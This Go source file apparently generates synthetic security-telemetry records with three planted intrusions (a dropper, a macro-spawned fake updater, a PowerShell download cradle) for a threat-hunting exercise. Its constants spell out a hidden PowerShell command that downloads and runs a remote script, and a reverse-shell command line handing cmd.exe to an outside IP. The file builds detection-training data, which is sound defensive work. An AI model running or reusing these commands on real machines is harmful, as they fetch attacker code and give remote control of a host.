package sampledata

import (
	"crypto/sha1"
	"crypto/sha256"
	"encoding/hex"
	"time"
)

// The planted intrusions' names, as Event.Planted reports them.
const (
	IntrusionTempDropper    = "temp-dropper"
	IntrusionUnusualParent  = "unusual-parent"
	IntrusionDownloadCradle = "download-cradle"
)

// Planted binaries, command lines and where they call home; SCENARIO.md tells the story.
const (
	DropperFile    = "3f7c2a9e.exe"
	DropperFolder  = `C:\Users\mkowalski\AppData\Local\temp\3f7c2a9e.exe`
	DropperCommand = `"C:\Users\mkowalski\AppData\Local\temp\3f7c2a9e.exe" /silent /s`
	DropperC2      = "185.220.101.47"

	ParentFile    = "AcroRd32Update.exe"
	ParentFolder  = `C:\Users\akumar\AppData\Roaming\Adobe\AcroRd32Update.exe`
	ParentCommand = `"C:\Users\akumar\AppData\Roaming\Adobe\AcroRd32Update.exe" --check`
	ParentC2      = "91.215.85.142"

	CradleC2        = "45.137.21.9"
	CradleCommand   = `powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://45.137.21.9/a.ps1')"`
	ShellFile       = "AMDRSServ.exe"
	ShellFolder     = `C:\ProgramData\AMD\AMDRSServ.exe`
	ShellCommand    = `"C:\ProgramData\AMD\AMDRSServ.exe" -connect 45.137.21.9:8080 -e cmd.exe`
	powershellPath  = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	plantedAccounts = "contoso"
)

// intrusions makes the planted events, at fixed offsets before Now so that the notebook's
// one-day query sees most of them and its seven-day pivots see all of them.
func (g *generator) intrusions() []Event {
	now := g.cfg.Now
	var out []Event
	base := func(name, device, user string, before time.Duration) Event {
		d := g.deviceNamed(device)
		t := now.Add(-before)
		return Event{
			Planted:       name,
			TimeGenerated: t, Timestamp: t.Add(-1500 * time.Millisecond),
			DeviceId: d.id, DeviceName: d.name, ActionType: "ConnectionSuccess",
			LocalIP: d.ip, LocalIPType: "Private", RemoteIPType: "Public", Protocol: "Tcp",
			InitiatingProcessAccountName: user, InitiatingProcessAccountDomain: plantedAccounts,
			InitiatingProcessIntegrityLevel: "Medium", InitiatingProcessTokenElevation: "TokenElevationTypeLimited",
		}
	}
	binary := func(e *Event, file, folder, cmd, parent string, pid, ppid int64, started time.Time) {
		e.InitiatingProcessFileName, e.InitiatingProcessFolderPath = file, folder
		e.InitiatingProcessCommandLine, e.InitiatingProcessParentFileName = cmd, parent
		e.InitiatingProcessId, e.InitiatingProcessParentId = pid, ppid
		e.InitiatingProcessCreationTime = started
		s1 := sha1.Sum([]byte("planted:" + folder))
		s256 := sha256.Sum256([]byte("planted:" + folder))
		e.InitiatingProcessSHA1 = hex.EncodeToString(s1[:])
		e.InitiatingProcessMD5 = hex.EncodeToString(s256[:16])
		e.InitiatingProcessSHA256 = hex.EncodeToString(s256[:])
	}

	// 1. A Word attachment drops a randomly named binary into the user's temp folder; it
	// beacons to its C2 about every two hours for the last 30 hours.
	for i := 0; i < 15; i++ {
		e := base(IntrusionTempDropper, dropperDevice, "mkowalski", 30*time.Hour-time.Duration(i)*(2*time.Hour+7*time.Minute))
		e.RemoteIP, e.RemotePort, e.LocalPort = DropperC2, 443, 50100+int64(i)
		binary(&e, DropperFile, DropperFolder, DropperCommand, "WINWORD.EXE", 7424, 5012, now.Add(-30*time.Hour-time.Minute))
		if i == 3 {
			e.ActionType = "ConnectionFailed"
		}
		out = append(out, e)
	}

	// 2. An Excel macro starts a fake Adobe updater from the user's roaming profile: Excel has
	// no business being its parent. It calls out on an odd port over the last 20 hours.
	for i := 0; i < 9; i++ {
		e := base(IntrusionUnusualParent, parentDevice, "akumar", 20*time.Hour-time.Duration(i)*(2*time.Hour+3*time.Minute))
		e.RemoteIP, e.RemotePort, e.LocalPort = ParentC2, 8443, 52300+int64(i)
		binary(&e, ParentFile, ParentFolder, ParentCommand, "EXCEL.EXE", 11236, 6620, now.Add(-20*time.Hour-5*time.Minute))
		out = append(out, e)
	}

	// 3. cmd.exe, started from an Outlook attachment, runs a PowerShell download cradle over plain
	// http; the script drops a reverse shell, disguised as an AMD
	// Radeon service, that hands cmd.exe to the same host.
	cradle := now.Add(-9 * time.Hour)
	for i := 0; i < 2; i++ {
		e := base(IntrusionDownloadCradle, cradleDevice, "jdoe", 9*time.Hour-time.Duration(i)*40*time.Second)
		e.RemoteIP, e.RemotePort, e.RemoteUrl, e.LocalPort = CradleC2, 80, "http://45.137.21.9/a.ps1", 51200+int64(i)
		binary(&e, "powershell.exe", powershellPath, CradleCommand, "cmd.exe", 9180, 8844, cradle.Add(-2*time.Second))
		e.InitiatingProcessSHA1, e.InitiatingProcessMD5, e.InitiatingProcessSHA256 = powershellHashes()
		out = append(out, e)
	}
	for i := 0; i < 8; i++ {
		e := base(IntrusionDownloadCradle, cradleDevice, "jdoe", 9*time.Hour-time.Duration(i+1)*47*time.Minute)
		e.RemoteIP, e.RemotePort, e.LocalPort = CradleC2, 8080, 51300+int64(i)
		binary(&e, ShellFile, ShellFolder, ShellCommand, "powershell.exe", 10432, 9180, cradle.Add(time.Minute))
		out = append(out, e)
	}
	return out
}

// powershellHashes are the fleet's powershell.exe hashes: the binary is genuine, its use is not.
func powershellHashes() (string, string, string) {
	for _, p := range core {
		if p.name == "powershell.exe" {
			p = withHashes(p)
			return p.sha1, p.md5, p.sha256
		}
	}
	return "", "", ""
}
